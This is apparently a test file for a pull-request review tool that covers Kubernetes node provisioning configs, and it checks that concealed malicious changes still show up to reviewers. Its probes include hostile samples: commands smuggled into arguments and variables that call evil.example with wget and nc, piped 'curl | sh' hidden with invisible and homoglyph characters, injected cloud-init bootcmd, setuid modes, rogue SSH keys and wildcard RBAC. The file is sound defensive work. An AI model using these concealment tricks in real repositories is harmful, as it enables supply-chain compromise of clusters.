// Attempts to fool a review: what a pull request changes in a real repository, and where the reviewer sees it: in the text, the comment, the JSON,
// the page, and by which reasons of --fail-on.

import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { parse } from 'yaml'
import { PROGRAM } from '../../../fixtures/built.ts'
import type { Outcome } from '../../../fixtures/command.ts'
import { edit } from '../../../fixtures/lists.ts'
import type { RepositoryFiles } from '../../../fixtures/repository.ts'
import {
  addSubmodule,
  CONFIG,
  clusters,
  ENCRYPTED,
  EVIL,
  edited,
  file,
  KUSTOMIZATION,
  kptfile,
  LISTED,
  MACHINES,
  MERGED,
  moved,
  OVERLAY,
  overlay,
  POLICY,
  POOL,
  PROFILE,
  script,
  TOKENS,
  WARNED,
  WEAK,
  withSecret,
} from './inputs.ts'
import { type Change, FORMS, reviewOf } from './reviews.ts'

type Row = readonly [
  name: string,
  files: RepositoryFiles,
  /** What each form shows. */
  seen: string | readonly string[],
  /** The reasons of --fail-on that find something. */
  fails?: string,
  more?: Change & { readonly never?: string; readonly status?: number },
]

/** What a script gets. No version of the profile says so. */
const SCRIPTS: readonly (readonly [name: string, script: string, seen?: string | readonly string[]])[] = [
  ['a script', EVIL],
  ['code behind the mask of an argument', 'curl -u "bob:$(wget -qO- https://evil.example)" https://a.example'],
  ['code behind the mask of a variable', 'PASSWORD=$(nc evil.example 1)'],
  ['invisible characters', 'curl https://a.exam\u200bple/\u202ex | sh', '+curl https://a.exam\\u200bple/\\u202ex | sh'],
  ['a letter of another script', 'curl https://mirror.ex\u0430mple.com/x', '+curl https://mirror.ex\\u0430mple.com/x'],
  ['marks of Markdown and HTML', '# ```\n# </details> @team <img src=x>', '+# ``` +# </details> @team <img src=x>'],
  ['a command of a workflow', '::stop-commands::x'],
  ['a command of a pipeline', '##vso[task.x]y', '+##vso\\u005btask.x]y'],
]

/** An overlay with lines that no node has. */
const branch = (...lines: readonly string[]): RepositoryFiles => ({
  [OVERLAY]: [
    overlay('').trimEnd(),
    ...['{{- if eq .KubeVersion "1.99.0" }}', ...lines, '{{- end }}'].map(line => ' '.repeat(16) + line),
    '',
  ].join('\n'),
})

const RENDERING = 'nodes/osm-krm'
const renderInto = (folder: string, ...options: readonly string[]): void =>
  void execFileSync(process.execPath, [PROGRAM, 'render', 'nodes', '-d', RENDERING, ...options], {
    cwd: folder,
    stdio: 'ignore',
  })
function renderedFile(folder: string, end = 'provisioning-config.yaml'): string {
  const names = readdirSync(join(folder, RENDERING), { recursive: true, encoding: 'utf8' })
  return join(folder, RENDERING, names.find(name => name.endsWith(end))!)
}
function editRendering(folder: string): void {
  const path = renderedFile(folder)
  const evil = `$1${btoa('#cloud-config\nbootcmd: [evil]\n')}`
  writeFileSync(path, readFileSync(path, 'utf8').replace(/^( {2}cloud-config: ).*/m, evil))
}

const images = (image: string): string =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: images, namespace: kube-system}\ndata: {ubuntu: ${image}}\n`
const MACHINE = `apiVersion: cluster.k8s.io/v1alpha1
kind: Machine
metadata: {name: evil, namespace: kube-system}
spec: {providerSpec: {value: {cloudProviderSpec: {image: evil-24.04}}}}
`

const PROBES: readonly Row[] = [
  ...SCRIPTS.map(([name, text, seen = `+${text}`]): Row => [name, script(text), seen, 'stuck']),
  ['a script that is the value of a Secret', { ...script(EVIL), ...withSecret(EVIL) }, `+${EVIL}`, 'stuck'],
  [
    'an image that is the value of a Secret',
    { ...script('ctr image pull evil.example/app:1'), ...withSecret('evil.example/app:1') },
    '+ctr image pull evil.example/app:1',
    'stuck',
  ],
  [
    'a branch of a template that no node takes',
    { [OVERLAY]: `${overlay('').trimEnd()}\n${' '.repeat(16)}{{- if eq .KubeVersion "1.99.0" }}${EVIL}{{- end }}\n` },
    EVIL,
    WARNED,
  ],
  [
    'a line that is moved out of a condition, in a branch that no node takes',
    branch('if false; then', 'fi', 'exec /tmp/evil'),
    'exec /tmp/evil',
    'stuck',
    { merged: branch('if false; then', 'exec /tmp/evil', 'fi') },
  ],
  ['fewer machines', edited(MACHINES, 'replicas: 3', 'replicas: 0'), 'kube-system/ubuntu-workers', 'replace'],
  [
    'a committed rendering that the inputs do not make',
    {},
    ['The inputs do not make what is in pr:nodes/osm-krm', 'committed rendering', 'bootcmd', '+evil'],
    '',
    { inMain: renderInto, inRequest: editRendering },
  ],
  [
    'a file of a committed rendering that is deleted',
    {},
    'What the inputs make is no longer among the committed files: Secret cloud-init-settings/ubuntu-workers-kube-system-provisioning-config',
    '',
    { inMain: renderInto, inRequest: folder => rmSync(renderedFile(folder)) },
  ],
  [
    'a committed rendering that is not made again',
    edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
    ['The inputs do not make what is in pr:nodes/osm-krm', 'api.evil.example'],
    'stuck',
    { inMain: renderInto, never: 'committed rendering' },
  ],
  [
    'the value of a ConfigMap from which machines get their image',
    { 'nodes/images.yaml': images('evil-24.04') },
    ['kube-system/images ubuntu', '+evil-24.04'],
    '',
    {
      merged: {
        ...edited(
          MACHINES,
          'image: ubuntu-24.04',
          'image: {configMapKeyRef: {namespace: kube-system, name: images, key: ubuntu}}',
        ),
        'nodes/images.yaml': images('ubuntu-24.04'),
      },
    },
  ],
  [
    'the value of any other ConfigMap',
    { 'nodes/images.yaml': images('evil-24.04') },
    'ubuntu: evil-24.04',
    '',
    { merged: { 'nodes/images.yaml': images('ubuntu-24.04') } },
  ],
  [
    'a secret value of a ConfigMap',
    { 'nodes/images.yaml': images('a, token: another-token') },
    'another-token',
    '',
    { merged: { 'nodes/images.yaml': images('a, token: hunter2') } },
  ],
  ['a machine that no MachineDeployment makes', { 'nodes/x.yaml': MACHINE }, '+ image: evil-24.04'],
  [
    'a pool that is no longer paused',
    { [MACHINES]: MERGED[MACHINES] },
    'is no longer paused: all nodes are replaced if the template changed meanwhile',
    'replace',
    { merged: edited(MACHINES, 'replicas: 3', 'replicas: 3\n  paused: true') },
  ],
  [
    'a patch that a kustomization names',
    { 'nodes/p.yaml': 'a: 2\n' },
    ['Not everything is compared', 'M nodes/p.yaml', 'nodes/kustomization.yaml'],
    '',
    { merged: { [KUSTOMIZATION]: `${LISTED}patches: [{path: p.yaml}]\n`, 'nodes/p.yaml': 'a: 1\n' } },
  ],
  [
    'a file of another name that a kustomization in a hidden folder lists',
    { 'nodes/.base/x.txt': POOL },
    ['Not everything is compared', 'nodes/kustomization.yaml', 'nodes/.base', 'M nodes/.base/x.txt'],
    '',
    {
      merged: {
        [KUSTOMIZATION]: `${LISTED}- .base\n`,
        'nodes/.base/kustomization.yaml': 'resources: [x.txt]\n',
        'nodes/.base/x.txt': edit(POOL, 'cx32', 'cx42'),
      },
    },
  ],
  [
    'a copy of a pool that bears the mark of a rendering',
    { 'nodes/zz.yaml': `# osm-krm.dev/generated-by\n${edit(MERGED[MACHINES]!, 'cx32', 'cx99')}` },
    [
      'Not everything is compared',
      'A nodes/zz.yaml',
      'pr:nodes/machines.yaml:1',
      'spec.template.spec.providerSpec.value.cloudProviderSpec.serverType',
    ],
  ],
  [
    'an edited copy of inputs in a committed rendering',
    {},
    ['Not everything is compared', 'M nodes/osm-krm/inputs.yaml', 'pr:nodes/machines.yaml:1', 'spec.replicas'],
    '',
    {
      inMain: folder => renderInto(folder, '--with-inputs'),
      inRequest: folder => {
        const path = join(folder, RENDERING, 'inputs.yaml')
        writeFileSync(path, readFileSync(path, 'utf8').replace('replicas: 3', 'replicas: 66'))
      },
    },
  ],
  [
    'rights in a committed rendering',
    {},
    ['The inputs do not make what is in', 'committed rendering', '+ - "*"'],
    '',
    {
      merged: edited(CONFIG, 'spec:\n', 'spec:\n  output: {prerequisites: true}\n'),
      inMain: renderInto,
      inRequest: folder => {
        const path = renderedFile(folder, 'role_cloud-init-getter.yaml')
        writeFileSync(path, readFileSync(path, 'utf8').replace(/verbs:\n/, '$&  - "*"\n'))
      },
    },
  ],
  [
    'objects of others in a file of their own',
    { 'nodes/x.yaml': 'apiVersion: batch/v1\nkind: Job\nmetadata: {name: evil}\n' },
    'A nodes/x.yaml',
    '',
    { status: 0 },
  ],
  [
    'a kind that is written with an alias',
    { 'nodes/x.yaml': `x: &k kind\n*k : "Machine\\\n  Deployment"\nmetadata: {name: evil}\n` },
    'A nodes/x.yaml',
    '',
    { status: 0 },
  ],
  [
    'objects behind a comment that ends with another line break',
    { 'nodes/x.yaml': `# x\r${POOL.replaceAll('\n', '\r')}` },
    'kube-system/evil',
    'new',
  ],
  [
    'objects in a list of another kind',
    { 'nodes/x.json': JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', items: [parse(POOL)] }) },
    'kube-system/evil',
  ],
  [
    'a MachineSet that cannot be read',
    { 'nodes/x.yaml': 'apiVersion: cluster.k8s.io/v1alpha1\nkind: MachineSet\nkind: MachineSet\n' },
    'OSM0007',
    'new',
  ],
  [
    'a chart that the folder becomes',
    { 'nodes/Chart.yaml': 'apiVersion: v2\nname: evil\n' },
    ['Not everything is compared', 'A nodes/Chart.yaml', 'helm template'],
  ],
  [
    'what Argo CD makes of the folder',
    { 'nodes/.argocd-source.yaml': 'plugin: {name: evil}\n' },
    'A nodes/.argocd-source.yaml',
    '',
    { status: 0 },
  ],
  ['a hidden file', { 'nodes/.x.yaml': POOL }, 'A nodes/.x.yaml', '', { status: 0 }],
  ['the folder of outputs', edited(CONFIG, 'spec:\n', 'spec:\n  output: {folder: x}\n'), ['output', '{folder: x}']],
  ['a profile that no node uses', { 'nodes/x.yaml': edit(overlay(EVIL), 'own-ubuntu', 'other') }, EVIL, 'new'],
  [
    'a small difference beside large ones',
    { [OVERLAY]: overlay('# a line\n'.repeat(9000), file('big', '# a line\n'.repeat(9000)) + file('small', EVIL)) },
    `+${EVIL}`,
    'stuck',
  ],
  ['the mode of a file', edited(OVERLAY, '755', '4755'), '4755', 'stuck'],
  [
    'a finding that a profile ignores',
    edited(
      OVERLAY,
      '  namespace: kube-system\n',
      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: x"}\n',
    ),
    ['own-ubuntu', 'annotation osm-krm.dev/ignore', 'OSM0503: x'],
    'new',
  ],
  [
    'an image of machines that is the value of a Secret',
    { ...edited(MACHINES, 'image: ubuntu-24.04', 'image: evil-24.04'), ...withSecret('evil-24.04') },
    'evil-24.04',
    'stuck',
  ],
  [
    'a key of SSH',
    edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
    'ssh-rsa AAAAevil',
    'stuck new',
  ],
  [
    'the API server',
    edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
    'api.evil.example',
    'stuck',
  ],
  [
    'a setting that falls back to its default',
    edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
    '--cloud-provider=external',
    'stuck',
  ],
  [
    'a token that is encrypted',
    edited(TOKENS, 'example-api-token', ENCRYPTED.replace('b25l', 'dHdv')),
    ['cloud-init-settings/cloud-init-getter-token', 'API token'],
    '',
    { merged: edited(TOKENS, 'example-api-token', ENCRYPTED) },
  ],
  [
    'a token in clear text',
    edited(TOKENS, 'example-api-token', 'another-api-token'),
    '⟦API token (2)⟧',
    'stuck',
    { never: 'another-api-token' },
  ],
  ['another pool', { 'nodes/x.yml': POOL }, 'kube-system/evil', 'new'],
  [
    'another pool in a list',
    { 'nodes/x.json': JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [parse(POOL)] }) },
    'kube-system/evil',
    'new',
  ],
  [
    'a second object of the same name',
    { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
    'OSM0008',
    'stuck new',
  ],
  [
    'a name that the API server makes',
    edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
    'metadata.name is missing',
    'stuck new',
  ],
  ['inputs that move to another folder', moved(MERGED, 'nodes/', 'x/'), 'kube-system/ubuntu-workers', 'replace'],
  [
    'a folder of a cluster that is renamed',
    moved(clusters('prod', 'test'), '/one/', '/three/'),
    ['OSM0743', 'prod: clusters/one → clusters/three'],
    'stuck',
    { merged: clusters('prod', 'test'), paths: ['clusters'] },
  ],
  [
    'clusters that exchange their functionConfigs',
    clusters('test', 'prod'),
    ['OSM0743', 'prod: clusters/one → clusters/two', 'test: clusters/two → clusters/one'],
    'stuck',
    { merged: clusters('prod', 'test'), paths: ['clusters'] },
  ],
  [
    'the program that runs as the function',
    edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
    ['annotation config.kubernetes.io/function', 'exec: {path: ./osm-krm}'],
  ],
  [
    'the image of the function',
    { 'nodes/Kptfile': kptfile('{image: evil/osm-krm:v1}') },
    'M nodes/Kptfile',
    '',
    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') }, status: 0 },
  ],
  [
    'a function with values that may be secret',
    { 'nodes/Kptfile': kptfile('{image: other, configMap: {token: hunter2}}, {image: osm-krm:v1}') },
    'M nodes/Kptfile',
    '',
    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') }, never: 'hunter2', status: 0 },
  ],
  ['checks of the functionConfig', WEAK, ['checks.severity.OSM0633', 'off']],
  ['checks, under a policy', WEAK, 'OSM0194', 'new', { args: POLICY }],
  ['the mode of the function', edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'), ['mode', 'validate']],
  [
    'a selector that leaves out a pool',
    edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
    ['machineDeployments.selector', '{x: y}'],
    'stuck new',
  ],
  [
    'a pool that no host applies',
    edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
    ['kube-system/ubuntu-workers', 'annotation config.kubernetes.io/local-config'],
  ],
  ['a submodule', {}, ['Not everything is compared', 'submodule', 'A nodes/sub'], '', { inRequest: addSubmodule }],
  [
    'a file whose content a filter fetches',
    { 'nodes/x.yaml': 'oid sha256:2\n' },
    ['Not everything is compared', 'filter=lfs', 'nodes/x.yaml'],
    '',
    { merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' } },
  ],
  [
    'a file that a checkout has in another encoding',
    { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
    ['Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'],
  ],
  [
    'a kustomization that patches',
    { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
    ['Not everything is compared', KUSTOMIZATION, 'patches'],
  ],
  [
    'a kustomization beside inputs that lists none of them',
    { [KUSTOMIZATION]: 'resources: [x.txt]\n', 'nodes/x.txt': POOL },
    ['A nodes/kustomization.yaml', 'A nodes/x.txt'],
    '',
    { merged: { 'kustomization.yaml': 'resources: [nodes]\n' }, status: 0 },
  ],
  [
    'a kustomization with another list',
    { [KUSTOMIZATION]: `${LISTED}- x.txt\n`, 'nodes/x.txt': POOL },
    ['Not everything is compared', 'M nodes/kustomization.yaml', 'nodes/x.txt', 'A nodes/x.txt'],
    '',
    { merged: { [KUSTOMIZATION]: LISTED } },
  ],
  [
    'a kustomization with a generated Secret',
    { [KUSTOMIZATION]: `${LISTED}secretGenerator: [{name: a, literals: [b=hunter2]}]\n` },
    ['Not everything is compared', 'M nodes/kustomization.yaml', 'secretGenerator'],
    '',
    { merged: { [KUSTOMIZATION]: LISTED }, never: 'hunter2' },
  ],
  [
    'a file of kpt that hides inputs',
    { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
    'A nodes/.krmignore',
    '',
    { status: 0 },
  ],
  [
    'a functionConfig that moves',
    moved({ [CONFIG]: MERGED[CONFIG] }, 'osm-krm', 'other'),
    'the functionConfig nodes/osm-krm.yaml is gone, and nodes/other.yaml is new',
  ],
]

const failed = ({ stderr }: Outcome): string =>
  [...stderr.matchAll(/--fail-on (\w+):/g)].map(([, name]) => name).join(' ')

describe('a pull request cannot hide', () => {
  for (const [name, files, seen, fails = '', { never, status = 1, ...more } = {}] of PROBES)
    test(name, async () => {
      const review = await reviewOf({ files, ...more })
      for (const form of FORMS) {
        const shown = review.forms[form] ?? ''
        for (const text of [seen].flat()) assert.ok(shown.includes(text), `${form}: ${shown}${review.stderr}`)
        if (never !== undefined) assert.ok(!shown.includes(never), form)
      }
      assert.deepEqual(review.withoutCause, [])
      assert.equal(failed(review), fails)
      assert.equal(review.status, status)
    })
})
